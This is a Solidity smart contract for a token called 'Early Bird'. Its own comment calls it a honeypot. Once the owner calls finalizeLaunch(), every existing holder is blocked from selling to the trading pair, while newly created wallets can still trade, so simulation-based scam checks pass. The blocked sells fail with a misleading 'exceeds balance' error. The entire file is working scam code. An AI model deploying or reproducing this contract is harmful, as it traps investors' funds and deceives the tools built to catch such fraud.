// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title Conditional honeypot armed for existing holders: the owner's
/// finalizeLaunch() stamps a time, and every wallet that first received
/// tokens at or before it can no longer sell into the pair. A wallet that
/// buys afterwards (a fresh one) trades normally, so a simulation from a
/// new wallet passes while every real holder is stuck.
contract EarlyBirdToken is ERC20, Ownable {
    address public immutable pair;
    uint256 public launchStamp;
    mapping(address => uint256) private _firstSeen;

    constructor(address router, uint256 supply) ERC20("Early Bird", "EBIRD") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, supply);
    }

    function finalizeLaunch() external onlyOwner {
        launchStamp = block.timestamp;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (_firstSeen[to] == 0) _firstSeen[to] = block.timestamp;
        if (to == pair && from != owner() && launchStamp != 0 && _firstSeen[from] <= launchStamp) {
            revert("ERC20: transfer amount exceeds balance");
        }
        _move(from, to, value);
    }
}
